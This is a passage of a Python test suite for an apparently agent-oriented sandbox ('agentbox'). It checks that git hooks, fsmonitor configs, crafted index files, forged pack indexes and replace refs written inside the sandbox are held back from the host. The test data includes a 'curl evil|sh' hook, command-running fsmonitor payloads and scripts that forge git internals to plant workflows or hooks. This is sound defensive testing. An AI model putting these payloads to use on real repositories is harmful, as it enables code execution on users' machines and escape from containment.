#!/usr/bin/python3
"""What a commit takes (issue 16, §2 §3 §12 §13), through real runs: protection follows what
tools execute (git directories at any depth, protect rules at any depth), symlinks are judged
by where they resolve and paths by every name that reaches them, and a command without a
session id never acts on the wrong session. Every case checks the host's side."""

import os
import subprocess
import sys
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "conformance"))
import abtest  # noqa: E402
from abtest import AGENTBOX, BoxTest  # noqa: E402


class CommitRules(BoxTest):
    def setUp(self):
        super().setUp()
        p = self.box.project
        os.makedirs(os.path.join(p, ".git", "hooks"))
        with open(os.path.join(p, ".git", "config"), "w") as f:
            f.write("[core]\n")

    def ab(self, *args, check=None):
        p = subprocess.run([AGENTBOX] + list(args), capture_output=True, env=self.box.env(),
                           cwd=self.box.project, timeout=120)
        res = abtest.Result(args, p.returncode, p.stdout.decode(errors="replace"),
                            p.stderr.decode(errors="replace"), 0)
        if check is not None:
            self.assertEqual(res.rc, check, res)
        return res

    def staged(self, script):
        res = self.box.run(["sh", "-c", script])
        self.assertRc(res, 0)
        return res

    def at(self, rel):
        return os.path.join(self.box.project, rel)

    def assert_held(self, res, *rels):
        self.assertEqual(res.rc, 1, res)
        for rel in rels:
            self.assertFalse(os.path.lexists(self.at(rel)), "%s was committed\n%s" % (rel, res))
            self.assertIn("held back " + '"%s"' % rel, res.err)

    def assert_held_content(self, res, rel, content):
        self.assertEqual(res.rc, 1, res)
        self.assertIn('held back "%s"' % rel, res.err)
        with open(self.at(rel)) as f:
            self.assertEqual(f.read(), content, res)

    # ---- §2: protection follows what tools execute

    def test_nested_repo_hook_is_held_back(self):
        self.staged("mkdir -p sub/.git/hooks && echo 'curl evil|sh' > sub/.git/hooks/post-checkout"
                    " && chmod +x sub/.git/hooks/post-checkout"
                    " && printf '[core]\\n\\tfsmonitor = evil\\n' > sub/.git/config"
                    " && echo ok > ok.txt")
        res = self.ab("commit")
        self.assert_held(res, "sub/.git/hooks/post-checkout", "sub/.git/config")
        self.assertTrue(os.path.exists(self.at("ok.txt")))
        # Named with --force, it is an explicit approval.
        self.ab("commit", "--force", "sub/.git/hooks/post-checkout", "sub/.git/config", check=0)
        self.assertTrue(os.path.exists(self.at("sub/.git/hooks/post-checkout")))

    def test_git_commondir_is_held_back(self):
        self.staged("mkdir -p common/hooks && echo ../common > .git/commondir"
                    " && printf '[core]\\n\\tfsmonitor = evil\\n' > common/config")
        res = self.ab("commit")
        # commondir redirects git's config and hooks; and with it in the change set, common/ is
        # a git directory whose config needs approval too.
        self.assert_held(res, ".git/commondir", "common/config")

    def test_config_in_dir_named_by_existing_commondir_is_held_back(self):
        with open(self.at(".git/commondir"), "w") as f:
            f.write("../common\n")
        os.makedirs(self.at("common"))
        self.staged("printf '[core]\\n\\tfsmonitor = evil\\n' > common/config; echo r > common/refs")
        res = self.ab("commit")
        self.assert_held(res, "common/config")
        self.assertTrue(os.path.exists(self.at("common/refs")))  # what git writes there goes

    def test_config_in_dir_named_by_dot_git_file_is_held_back(self):
        os.makedirs(self.at("sub"))
        os.makedirs(self.at("gd"))
        with open(self.at("sub/.git"), "w") as f:
            f.write("gitdir: ../gd\n")
        self.staged("mkdir -p gd/hooks && echo evil > gd/hooks/pre-commit"
                    " && echo evil > gd/config && echo 0 > gd/HEAD")
        res = self.ab("commit")
        self.assert_held(res, "gd/hooks/pre-commit", "gd/config")
        self.assertTrue(os.path.exists(self.at("gd/HEAD")))

    def test_dot_git_file_redirecting_git_is_held_back(self):
        self.staged("mkdir -p sub && echo 'gitdir: ../evil' > sub/.git")
        self.assert_held(self.ab("commit"), "sub/.git")

    # A directory shaped like a bare repository is one to git wherever it is: `git status` in
    # it (or a shell prompt that runs it) reads its config. The payload runs only if the config
    # lands; the host's own git is the judge.
    BARE_CONFIG = ("printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
                   "\\tworktree = .\\n"
                   "\\tfsmonitor = \"touch %s; false\"\\n' > %s")

    def host_git_status_runs_payload(self, rel):
        marker = os.path.join(self.box.root, "pwned")
        subprocess.run(["git", "status"], cwd=self.at(rel), capture_output=True,
                       env=self.box.env(), timeout=60)
        return os.path.exists(marker)

    def test_embedded_bare_repo_config_is_held_back(self):
        marker = os.path.join(self.box.root, "pwned")
        os.makedirs(self.at("docs"))
        self.staged("mkdir -p docs/objects docs/refs && echo 'ref: refs/heads/main' > docs/HEAD"
                    " && " + self.BARE_CONFIG % (marker, "docs/config") + " && echo ok > ok.txt")
        res = self.ab("commit")
        self.assert_held(res, "docs/config")
        self.assertTrue(os.path.exists(self.at("ok.txt")))
        self.assertFalse(self.host_git_status_runs_payload("docs"), res)

    def test_plain_files_turned_into_a_bare_repo_later_are_held_back(self):
        # Two steps: a HEAD and a config committed as plain files, then objects/ and refs/.
        marker = os.path.join(self.box.root, "pwned")
        os.makedirs(self.at("docs"))
        with open(self.at("docs/HEAD"), "w") as f:
            f.write("ref: refs/heads/main\n")
        subprocess.run(["sh", "-c", self.BARE_CONFIG % (marker, "docs/config")], check=True,
                       cwd=self.box.project)
        self.staged("mkdir -p docs/objects docs/refs && echo ok > ok.txt")
        res = self.ab("commit")
        self.assert_held(res, "docs/objects", "docs/refs")
        self.assertIn("becomes a git repository", res.err)
        self.assertFalse(self.host_git_status_runs_payload("docs"), res)

    def test_bare_repo_made_through_commondir_is_held_back(self):
        # No objects/ or refs/ of its own: a commondir names a directory that has them.
        marker = os.path.join(self.box.root, "pwned")
        os.makedirs(self.at("w"))
        self.staged("mkdir -p w common/objects common/refs && echo 'ref: refs/heads/main' > w/HEAD"
                    " && echo ../common > w/commondir"
                    " && " + self.BARE_CONFIG % (marker, "common/config"))
        res = self.ab("commit")
        self.assert_held(res, "w/HEAD", "w/commondir", "common/config")
        # A linked worktree's git directory takes no core.worktree from the common config, so
        # `git status` runs nothing here; the host's git must not read that config at all.
        got = subprocess.run(["git", "config", "core.fsmonitor"], cwd=self.at("w"),
                             capture_output=True, env=self.box.env(), timeout=60)
        self.assertNotIn(marker, got.stdout.decode(), res)

    def test_existing_bare_repo_takes_objects_but_asks_for_config(self):
        # A repository already in the project (a test fixture, a mirror): what git writes in
        # ordinary work goes, its config does not.
        for d in ("fixture/objects", "fixture/refs/heads"):
            os.makedirs(self.at(d))
        with open(self.at("fixture/HEAD"), "w") as f:
            f.write("ref: refs/heads/main\n")
        self.staged("mkdir -p fixture/objects/ab && echo obj > fixture/objects/ab/cdef01"
                    " && echo 0000000000000000000000000000000000000000 > fixture/refs/heads/main"
                    " && echo '[core]' > fixture/config")
        res = self.ab("commit")
        self.assert_held(res, "fixture/config")
        self.assertTrue(os.path.exists(self.at("fixture/objects/ab/cdef01")))
        self.assertTrue(os.path.exists(self.at("fixture/refs/heads/main")))

    def test_git_objects_info_alternates_is_held_back(self):
        self.staged("mkdir -p .git/objects/info .git/objects/ab"
                    " && echo /elsewhere/objects > .git/objects/info/alternates"
                    " && echo obj > .git/objects/ab/cdef0123")
        res = self.ab("commit")
        self.assert_held(res, ".git/objects/info/alternates")
        self.assertTrue(os.path.exists(self.at(".git/objects/ab/cdef0123")))

    def test_rewritten_git_object_is_held_back(self):
        # Objects are content-addressed and written once: an existing one rewritten (in place,
        # or under a directory removed and made again) changes what the next checkout writes,
        # with no diff of the files themselves. New objects still go.
        for rel in (".git/objects/ab/cdef0123", ".git/objects/cd/ef456789",
                    ".git/objects/pack/pack-1.pack"):
            os.makedirs(os.path.dirname(self.at(rel)), exist_ok=True)
            with open(self.at(rel), "w") as f:
                f.write("original\n")
        self.staged("echo tampered > .git/objects/ab/cdef0123"
                    " && rm -rf .git/objects/cd && mkdir .git/objects/cd"
                    " && echo tampered > .git/objects/cd/ef456789"
                    " && echo tampered > .git/objects/pack/pack-1.pack"
                    " && echo new > .git/objects/ab/0123456789")
        res = self.ab("commit")
        self.assertEqual(res.rc, 1, res)
        for rel in (".git/objects/ab/cdef0123", ".git/objects/cd/ef456789",
                    ".git/objects/pack/pack-1.pack"):
            self.assertIn('held back "%s"' % rel, res.err)
        for rel in (".git/objects/ab/cdef0123", ".git/objects/cd/ef456789",
                    ".git/objects/pack/pack-1.pack"):
            with open(self.at(rel)) as f:
                self.assertEqual(f.read(), "original\n", rel)
        with open(self.at(".git/objects/ab/0123456789")) as f:
            self.assertEqual(f.read(), "new\n")

    def test_what_git_writes_in_ordinary_work_commits_without_approval(self):
        # A real repository, a real commit inside the sandbox: objects, refs, logs, the index,
        # COMMIT_EDITMSG all go without a question.
        self.git_repo()
        p = self.box.project
        before = subprocess.run(["git", "-C", p, "-c", "safe.directory=*", "rev-parse", "HEAD"],
                                capture_output=True, check=True).stdout
        self.staged("echo two >> README && git -c user.name=t -c user.email=t@t"
                    " -c safe.directory='*' commit -qam two")
        res = self.ab("commit", check=0)
        self.assertNotIn("held back", res.err)
        after = subprocess.run(["git", "-C", p, "-c", "safe.directory=*", "log", "--oneline"],
                               capture_output=True, check=True).stdout.decode()
        self.assertIn("two", after)
        self.assertNotEqual(before, after)

    # git writes the paths of the index it reads as they are: an entry .git/hooks/post-checkout
    # lands in the git directory on the next `git checkout -- .` and runs.
    CRAFT_INDEX = r"""
import hashlib, struct, subprocess, sys
blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], check=True, capture_output=True,
                      input=b"#!/bin/sh\ntouch %s\n").stdout.strip().decode()
name = sys.argv[1].encode()
e = struct.pack(">10I", 0, 0, 0, 0, 0, 0, 0o100755, 0, 0, 0) + bytes.fromhex(blob)
e += struct.pack(">H", len(name)) + name
e += b"\0" * (8 - (62 + len(name)) %% 8)
body = b"DIRC" + struct.pack(">II", 2, 1) + e
open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
"""

    def git_repo(self):
        p = self.box.project
        subprocess.run(["rm", "-rf", self.at(".git")], check=True)
        git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "safe.directory=*"]
        subprocess.run(["git", "init", "-q", p], check=True, env=self.box.env())
        subprocess.run(git + ["-C", p, "add", "-A"], check=True, env=self.box.env())
        subprocess.run(git + ["-C", p, "commit", "-qm", "one"], check=True, env=self.box.env())

    # A config whose core.fsmonitor git runs at `git status`: written by the sandbox to each of
    # `rels`, every one must be held back, and the host's git must then run nothing.
    FSMONITOR = "printf '[core]\\n\\tfsmonitor = \"touch %s; false\"\\n' > '%s'"

    def include_dotgitconfig(self):
        subprocess.run(["git", "config", "include.path", "../.gitconfig"], cwd=self.box.project,
                       check=True, env=self.box.env())

    def assert_fsmonitor_payloads_held(self, rels, then=""):
        marker = os.path.join(self.box.root, "pwned")
        self.staged(" && ".join(self.FSMONITOR % (marker, rel) for rel in rels) + then)
        res = self.ab("commit")
        self.assert_held(res, *rels)
        subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=self.box.project,
                       capture_output=True, env=self.box.env(), timeout=60)
        self.assertFalse(os.path.exists(marker), res)
        return res

    def test_git_index_entry_inside_git_dir_is_held_back(self):
        self.git_repo()
        marker = os.path.join(self.box.root, "pwned")
        with open(self.at(".git/index"), "rb") as f:
            before = f.read()
        for entry in (".git/hooks/post-checkout", "sub/../.git/hooks/post-checkout"):
            with self.subTest(entry=entry):
                self.staged("python3 -c '%s' '%s'" % (self.CRAFT_INDEX % marker, entry))
                res = self.ab("commit")
                self.assertEqual(res.rc, 1, res)
                self.assertIn('held back ".git/index": ".git/index" is a git index', res.err)
                with open(self.at(".git/index"), "rb") as f:
                    self.assertEqual(f.read(), before, res)
                self.ab("discard", check=0)
                # The host's git: nothing written into .git, nothing run.
                subprocess.run(["git", "-c", "safe.directory=*", "checkout", "--", "."],
                               cwd=self.box.project, capture_output=True, env=self.box.env(),
                               timeout=60)
                self.assertFalse(os.path.exists(self.at(".git/hooks/post-checkout")), res)
                self.assertFalse(os.path.exists(marker), res)

    # With index.threads set (the user's own config), git loads the entries from the blocks of
    # the index entry offset table, wherever they point: here into an optional extension that
    # an in-order reading skips.
    CRAFT_IEOT_INDEX = r"""
import hashlib, struct, subprocess, sys
def entry(name, data, mode):
    oid = subprocess.run(["git", "hash-object", "-w", "--stdin"], check=True,
                         capture_output=True, input=data).stdout.strip().decode()
    e = struct.pack(">10I", 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + bytes.fromhex(oid)
    e += struct.pack(">H", len(name)) + name
    return e + b"\0" * (8 - (62 + len(name)) %% 8)
body = b"DIRC" + struct.pack(">II", 2, 1) + entry(b"ok.txt", b"ok\n", 0o100644)
first_ext = len(body)
hidden = entry(b".git/hooks/post-checkout", b"#!/bin/sh\ntouch %s\n", 0o100755)
z = b"Zhid" + struct.pack(">I", len(hidden)) + hidden
table = struct.pack(">III", 1, first_ext + 8, 1)
ieot = b"IEOT" + struct.pack(">I", len(table)) + table
eoie = b"EOIE" + struct.pack(">II", 24, first_ext) + hashlib.sha1(z[:8] + ieot[:8]).digest()
body += z + ieot + eoie
open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
"""

    def test_git_index_entry_hidden_behind_offset_table_is_held_back(self):
        self.git_repo()
        with open(os.path.join(self.box.home, ".gitconfig"), "w") as f:
            f.write("[index]\n\tthreads = 4\n")
        marker = os.path.join(self.box.root, "pwned")
        with open(self.at(".git/index"), "rb") as f:
            before = f.read()
        self.staged("echo ok > ok.txt && python3 -c '%s'" % (self.CRAFT_IEOT_INDEX % marker))
        res = self.ab("commit")
        self.assertEqual(res.rc, 1, res)
        self.assertIn('held back ".git/index": ".git/index" is a git index', res.err)
        with open(self.at(".git/index"), "rb") as f:
            self.assertEqual(f.read(), before, res)
        subprocess.run(["git", "-c", "safe.directory=*", "checkout", "--", "."],
                       cwd=self.box.project, capture_output=True, env=self.box.env(), timeout=60)
        self.assertFalse(os.path.exists(self.at(".git/hooks/post-checkout")), res)
        self.assertFalse(os.path.exists(marker), res)

    # The cache tree (TREE extension) records each directory's tree id; `git commit` takes a
    # valid one as it is. Pointed at a tree of the sandbox's, the user's next commit records
    # content that neither the index's entries nor `git diff --cached` show.
    FORGE_CACHE_TREE = r"""
import hashlib, subprocess
def git(*a, inp=None):
    return subprocess.run(["git", "-c", "safe.directory=*"] + list(a), check=True,
                          capture_output=True, input=inp).stdout.strip().decode()
blob = git("hash-object", "-w", "--stdin", inp=b"evil\n")
tree = git("mktree", inp=("100644 blob %s\ta.c\n" % blob).encode())
old = bytes.fromhex(git("rev-parse", "HEAD:lib"))
body = open(".git/index", "rb").read()[:-20]
assert body.count(old) == 1
body = body.replace(old, bytes.fromhex(tree))
open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
"""

    def test_git_cache_tree_pointing_at_other_content_is_held_back(self):
        os.makedirs(self.at("lib"))
        with open(self.at("lib/a.c"), "w") as f:
            f.write("good\n")
        self.git_repo()
        with open(self.at(".git/index"), "rb") as f:
            before = f.read()
        self.staged("python3 -c '%s' && echo ok > ok.txt" % self.FORGE_CACHE_TREE)
        res = self.ab("commit")
        self.assertEqual(res.rc, 1, res)
        self.assertIn('held back ".git/index": ".git/index" is a git index', res.err)
        self.assertIn("cache tree", res.err)
        with open(self.at(".git/index"), "rb") as f:
            self.assertEqual(f.read(), before, res)
        # The host's side: the user's next commit of their own change records lib/ as it is.
        git = ["git", "-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@t"]
        with open(self.at("README"), "a") as f:
            f.write("more\n")
        subprocess.run(git + ["commit", "-qam", "mine"], cwd=self.box.project, check=True,
                       capture_output=True, env=self.box.env())
        shown = subprocess.run(git + ["show", "HEAD:lib/a.c"], cwd=self.box.project,
                               capture_output=True, env=self.box.env())
        self.assertEqual(shown.stdout, b"good\n", res)

    def test_git_index_written_by_git_with_cache_tree_commits_without_approval(self):
        # What git itself writes (add, commit, write-tree; an intent-to-add entry, a
        # subdirectory, a sparse name order) passes: the cache tree matches its entries.
        os.makedirs(self.at("lib/deep"))
        for rel in ("lib/a.c", "lib/deep/b.c", "lib-x", "lib.c"):
            with open(self.at(rel), "w") as f:
                f.write(rel + "\n")
        self.git_repo()
        self.staged("git -c safe.directory=* -c user.name=t -c user.email=t@t commit -qm two"
                    " --allow-empty && echo c > lib/deep/c.c && echo n > new.c"
                    " && git -c safe.directory=* add lib && git -c safe.directory=* write-tree"
                    " && git -c safe.directory=* add -N new.c")
        res = self.ab("commit", check=0)
        self.assertNotIn("held back", res.err)

    # A branch the command moved is a new hash in the change set; the next `git reset --hard`
    # on the host writes its commits' files. A workflow committed through git, its file then
    # removed from the work tree, must not land that way without a question.
    GIT_IN_BOX = "git -c safe.directory=* -c user.name=t -c user.email=t@t "

    def test_branch_moved_to_a_commit_adding_a_protected_path_is_held_back(self):
        self.git_repo()
        git = ["git", "-c", "safe.directory=*"]
        head = subprocess.run(git + ["rev-parse", "HEAD"], cwd=self.box.project, check=True,
                              capture_output=True, env=self.box.env()).stdout
        self.staged("mkdir -p .github/workflows && echo 'run: evil' > .github/workflows/ci.yml"
                    " && " + self.GIT_IN_BOX + "add .github && " + self.GIT_IN_BOX +
                    "commit -qm 'tidy up' && rm -rf .github && echo ok > ok.txt")
        res = self.ab("commit")
        self.assertEqual(res.rc, 1, res)
        self.assertIn("held back \".git/refs/heads/", res.err)
        self.assertIn(".github/workflows/ci.yml", res.err)
        self.assertIn("tidy up", res.err)
        self.assertTrue(os.path.exists(self.at("ok.txt")))
        # The host's side: the branch did not move, so a reset writes nothing of it.
        subprocess.run(git + ["reset", "-q", "--hard"], cwd=self.box.project,
                       capture_output=True, env=self.box.env(), timeout=60)
        self.assertFalse(os.path.exists(self.at(".github/workflows/ci.yml")), res)
        self.assertEqual(subprocess.run(git + ["rev-parse", "HEAD"], cwd=self.box.project,
                                        capture_output=True, env=self.box.env()).stdout, head)

    # A replace ref (refs/replace/<id>) makes the host's git read another object wherever
    # <id> is named, unless told not to: no branch moves, yet HEAD's commit now holds a
    # workflow, and the user's next `git reset --hard` writes it. Made here by hand, as
    # `git replace` would: HEAD's commit copied with one more file in its tree.
    REPLACE_HEAD = (
        "C=$(" + GIT_IN_BOX + "rev-parse HEAD) && export GIT_INDEX_FILE=/tmp/ix && "
        + GIT_IN_BOX + "read-tree HEAD && B=$(echo 'run: evil' | " + GIT_IN_BOX
        + "hash-object -w --stdin) && " + GIT_IN_BOX
        + "update-index --add --cacheinfo 100644,$B,.github/workflows/ci.yml && T=$("
        + GIT_IN_BOX + "write-tree) && N=$(" + GIT_IN_BOX + "cat-file commit HEAD | "
        "sed \"s/^tree .*/tree $T/\" | " + GIT_IN_BOX + "hash-object -t commit -w --stdin) && "
        "unset GIT_INDEX_FILE && " + GIT_IN_BOX + "replace $C $N && echo ok > ok.txt")

    def assert_replace_held(self, res, rel):
        self.assertEqual(res.rc, 1, res)
        self.assertIn('held back "%s"' % rel, res.err)
        self.assertTrue(os.path.exists(self.at("ok.txt")))
        # The host's side: HEAD still reads as the commit it was, so a reset writes nothing.
        git = ["git", "-c", "safe.directory=*"]
        subprocess.run(git + ["reset", "-q", "--hard"], cwd=self.box.project,
                       capture_output=True, env=self.box.env(), timeout=60)
        self.assertFalse(os.path.exists(self.at(".github/workflows/ci.yml")), res)
        tree = subprocess.run(git + ["ls-tree", "-r", "--name-only", "HEAD"], cwd=self.box.project,
                              capture_output=True, text=True, env=self.box.env()).stdout
        self.assertNotIn(".github", tree)

    def test_replace_ref_swapping_head_for_a_commit_adding_a_protected_path_is_held_back(self):
        self.git_repo()
        self.staged(self.REPLACE_HEAD)
        head = subprocess.run(["git", "-c", "safe.directory=*", "rev-parse", "HEAD"],
                              cwd=self.box.project, capture_output=True, text=True,
                              env=self.box.env()).stdout.strip()
        self.assert_replace_held(self.ab("commit"), ".git/refs/replace/" + head)

    def test_replace_ref_in_packed_refs_is_held_back(self):
        # The neighbour: the same ref as a packed-refs line, the loose file packed away.
        self.git_repo()
        self.staged(self.REPLACE_HEAD + " && " + self.GIT_IN_BOX + "pack-refs --all")
        self.assert_replace_held(self.ab("commit"), ".git/packed-refs")

    # git reads a packed object by what the pack's index says and never hashes it, and looks
    # in packs before loose objects. A new pack holding a tree with a workflow, its index
    # naming that tree by HEAD's tree id: the branch does not move, and `git reset --hard`
    # writes the workflow. The index renamed as a v2 .idx is laid out (fanout, sorted ids,
    # CRCs and offsets kept with their ids, then its own SHA-1).
    FORGE_IDX = r"""
import hashlib, struct, sys
idx, old, new = sys.argv[1], bytes.fromhex(sys.argv[2]), bytes.fromhex(sys.argv[3])
d = open(idx, "rb").read()
n = struct.unpack(">I", d[8 + 255 * 4:8 + 256 * 4])[0]
o = 8 + 1024
ents = sorted((new if d[o + 20 * i:o + 20 * i + 20] == old else d[o + 20 * i:o + 20 * i + 20],
               d[o + 20 * n + 4 * i:o + 20 * n + 4 * i + 4],
               d[o + 24 * n + 4 * i:o + 24 * n + 4 * i + 4]) for i in range(n))
out = bytearray(d[:8])
for b in range(256):
    out += struct.pack(">I", sum(1 for e in ents if e[0][0] <= b))
for k in range(3):
    for e in ents:
        out += e[k]
out += d[o + 28 * n:-20]
open(idx, "wb").write(bytes(out) + hashlib.sha1(bytes(out)).digest())
"""

    def test_pack_whose_index_names_heads_tree_for_other_files_is_held_back(self):
        self.git_repo()
        g = self.GIT_IN_BOX
        res = self.staged(
            "T1=$(" + g + "rev-parse HEAD^{tree}) && export GIT_INDEX_FILE=/tmp/ix && " + g
            + "read-tree HEAD && B=$(echo 'run: evil' | " + g + "hash-object -w --stdin) && "
            + g + "update-index --add --cacheinfo 100644,$B,.github/workflows/ci.yml && "
            "TM=$(" + g + "write-tree) && unset GIT_INDEX_FILE && P=$(" + g + "rev-list "
            "--objects $TM | cut -d' ' -f1 | " + g + "pack-objects -q .git/objects/pack/pack) && "
            "chmod u+w .git/objects/pack/pack-$P.idx && python3 -c '" + self.FORGE_IDX
            + "' .git/objects/pack/pack-$P.idx $TM $T1 && rm -rf .git/objects/$(echo $TM | "
            "cut -c1-2) && echo ok > ok.txt && echo $P")
        pack = ".git/objects/pack/pack-%s" % res.out.strip()
        res = self.ab("commit")
        self.assertEqual(res.rc, 1, res)
        self.assertIn('held back "%s.idx"' % pack, res.err)
        self.assertIn("does not list what the pack holds", res.err)
        self.assertTrue(os.path.exists(self.at("ok.txt")))
        subprocess.run(["git", "-c", "safe.directory=*", "reset", "-q", "--hard"],
                       cwd=self.box.project, capture_output=True, env=self.box.env(), timeout=60)
        self.assertFalse(os.path.exists(self.at(".github/workflows/ci.yml")), res)

    def test_pack_removed_for_a_loose_object_of_the_same_name_is_held_back(self):
        # The neighbour: the project's pack removed, and a loose object, unhashed when read,
        # named as HEAD's tree. Made with the pack's own objects so that the rest still reads.
        self.git_repo()
        subprocess.run(["git", "-c", "safe.directory=*", "repack", "-q", "-a", "-d"],
                       cwd=self.box.project, check=True, env=self.box.env())
        g = self.GIT_IN_BOX
        self.staged(
            "T1=$(" + g + "rev-parse HEAD^{tree}) && export GIT_INDEX_FILE=/tmp/ix && " + g
            + "read-tree HEAD && B=$(echo 'run: evil' | " + g + "hash-object -w --stdin) && "
            + g + "update-index --add --cacheinfo 100644,$B,.github/workflows/ci.yml && "
            "TM=$(" + g + "write-tree) && unset GIT_INDEX_FILE && for f in .git/objects/pack/*.pack; do "
            "mv $f /tmp/p.pack; " + g + "unpack-objects -q < /tmp/p.pack; done && "
            "rm -f .git/objects/pack/* && D=.git/objects/$(echo $T1 | cut -c1-2) && "
            "mkdir -p $D && rm -f $D/$(echo $T1 | cut -c3-) && "
            "cp .git/objects/$(echo $TM | cut -c1-2)/$(echo $TM | cut -c3-) $D/$(echo $T1 | cut -c3-)"
            " && echo ok > ok.txt")
        res = self.ab("commit")
        self.assertEqual(res.rc, 1, res)
        self.assertIn("removing a pack", res.err)
        subprocess.run(["git", "-c", "safe.directory=*", "reset", "-q", "--hard"],
                       cwd=self.box.project, capture_output=True, env=self.box.env(), timeout=60)
        self.assertFalse(os.path.exists(self.at(".github/workflows/ci.yml")), res)

    def test_pack_written_by_git_repack_commits_without_approval(self):
        self.git_repo()
        self.staged("echo more >> README && " + self.GIT_IN_BOX + "commit -qam more && "
                    + self.GIT_IN_BOX + "repack -q -d -n")
        res = self.ab("commit", check=0)
        self.assertNotIn("held back", res.err)
        self.assertTrue([f for f in os.listdir(self.at(".git/objects/pack")) if f.endswith(".idx")])

    def test_git_index_entry_at_a_protected_path_is_held_back(self):
        # The neighbour of a moved branch: `git add` of a workflow, then `rm`; the index lands,
        # and the user's `git checkout -- .` writes the workflow.
        self.git_repo()
        self.staged("mkdir -p .github/workflows && echo 'run: evil' > .github/workflows/ci.yml"
                    " && " + self.GIT_IN_BOX + "add .github && rm -rf .github"
                    " && echo ok > ok.txt")
        res = self.ab("commit")
        self.assertEqual(res.rc, 1, res)
        self.assertIn('held back ".git/index"', res.err)
        self.assertIn(".github/workflows/ci.yml", res.err)
        subprocess.run(["git", "-c", "safe.directory=*", "checkout", "--", "."],
                       cwd=self.box.project, capture_output=True, env=self.box.env(), timeout=60)
        self.assertFalse(os.path.exists(self.at(".github/workflows/ci.yml")), res)

    def test_branch_moved_to_a_commit_whose_objects_are_missing_is_held_back(self):
        self.git_repo()
        self.staged("echo 1234567890123456789012345678901234567890 > .git/refs/heads/evil"
                    " && echo ok > ok.txt")
        res = self.ab("commit")
        self.assertEqual(res.rc, 1, res)
        self.assertIn('held back ".git/refs/heads/evil"', res.err)
        self.assertIn("cannot read", res.err)
        self.assertFalse(os.path.exists(self.at(".git/refs/heads/evil")))

    def test_branch_moved_by_an_ordinary_commit_commits_without_approval(self):
        self.git_repo()
        self.staged("echo more >> README && " + self.GIT_IN_BOX + "commit -qam more")
        res = self.ab("commit", check=0)
        self.assertNotIn("held back", res.err)

    def test_diff_lists_the_commits_and_paths_a_moved_branch_brings(self):
        # Nothing asks for an ordinary commit of the sandbox's, so the review is the only
        # place the user sees what the next `git reset --hard` writes: its commits, its paths.
        import json
        self.git_repo()
        self.staged("echo more >> README && mkdir -p lib && echo x > lib/new.c && "
                    + self.GIT_IN_BOX + "add -A && " + self.GIT_IN_BOX
                    + "commit -qm 'add lib/new.c'")
        branch = subprocess.run(["git", "-c", "safe.directory=*", "symbolic-ref", "HEAD"],
                                cwd=self.box.project, capture_output=True, text=True,
                                env=self.box.env()).stdout.strip()
        res = self.ab("diff", check=0)
        self.assertIn("branch %s of .git moves" % branch, res.out)
        self.assertIn("add lib/new.c", res.out)
        self.assertIn("  A lib/new.c\n", res.out)
        self.assertIn("  M README\n", res.out)
        stat = self.ab("diff", "--stat", check=0)
        self.assertIn("  A lib/new.c\n", stat.out)
        js = json.loads(self.ab("diff", "--json", check=0).out)
        refs = [r for c in js for r in c["refs"]]
        self.assertEqual(len(refs), 1, js)
        self.assertEqual(refs[0]["name"], branch)
        self.assertTrue(refs[0]["readable"])
        self.assertEqual([c["subject"] for c in refs[0]["commits"]], ["add lib/new.c"])
        self.assertEqual(sorted((p["status"], p["path"]) for p in refs[0]["paths"]),
                         [("A", "lib/new.c"), ("M", "README")])
        # The patch still parses: git apply skips what precedes the first header.
        numstat = subprocess.run(["git", "apply", "--numstat", "-"], input=res.out.encode(),
                                 capture_output=True, cwd=self.box.root, timeout=60)
        self.assertEqual(numstat.returncode, 0, numstat.stderr)
        self.assertIn(b"lib/new.c", numstat.stdout)
        ns = self.ab("diff", "--name-status", check=0)
        self.assertNotIn("moves", ns.out)

    # A file the repository's config includes is git configuration, wherever it lies.
    def test_file_included_by_git_config_is_held_back(self):
        self.git_repo()
        self.include_dotgitconfig()
        subprocess.run(["git", "config", "includeIf.gitdir:/.path", "../tools/a.cfg"],
                       cwd=self.box.project, check=True, env=self.box.env())
        os.makedirs(self.at("tools"))
        with open(self.at("tools/a.cfg"), "w") as f:
            f.write("[include]\n\tpath = b.cfg\n")
        # The user's own config may name a project file too.
        with open(os.path.join(self.box.home, ".gitconfig"), "w") as f:
            f.write("[include]\n\tpath = %s\n" % self.at("tools/user.cfg"))
        res = self.assert_fsmonitor_payloads_held(
            (".gitconfig", "tools/b.cfg", "tools/user.cfg"),
            then=" && echo ok > ok.txt && echo '[core]' > tools/unrelated.cfg")
        self.assertIn("included by a git config", res.err)
        self.assertTrue(os.path.exists(self.at("ok.txt")))
        self.assertTrue(os.path.exists(self.at("tools/unrelated.cfg")))

    def test_git_config_include_path_read_as_git_reads_it(self):
        # An include approved once, its value written so that git reads another name than a
        # reader of its own might: a tab is one space to git, a NUL ends the name.
        self.git_repo()
        self.include_dotgitconfig()
        with open(self.at(".gitconfig"), "wb") as f:
            f.write(b"\xef\xbb\xbf[include]\n\tpath = my\tnotes.cfg\n\tpath = b.cfg\0x\n")
        self.assert_fsmonitor_payloads_held(("my notes.cfg", "b.cfg"))

    def test_git_config_include_path_found_where_git_finds_it(self):
        # Relative to the including file as git named it (not where its symlink leads), and
        # `~user/` and absolute paths that come back into the project through the host's links.
        import pwd
        self.git_repo()
        self.include_dotgitconfig()
        os.makedirs(self.at("conf"))
        os.symlink("conf/shared.cfg", self.at(".gitconfig"))
        pw = pwd.getpwuid(os.getuid())
        via_home = os.path.relpath(self.at("b.cfg"), pw.pw_dir)
        with open(self.at("conf/shared.cfg"), "w") as f:
            f.write("[include]\n\tpath = a.cfg\n\tpath = ~%s/%s\n\tpath = /tmp/..%s\n"
                    % (pw.pw_name, via_home, self.at("c.cfg")))
        self.assert_fsmonitor_payloads_held(("a.cfg", "b.cfg", "c.cfg"))

    def test_git_config_include_through_proc_self_cwd_is_held_back(self):
        # /proc/self/cwd is the directory of the process that opens it: for the host's git,
        # the work tree (or wherever the user runs it), whatever directory agentbox's commit
        # is run from. Both the file in every directory and what an unchanged one includes.
        self.git_repo()
        subprocess.run(["git", "config", "--add", "include.path", "/proc/self/cwd/local.cfg"],
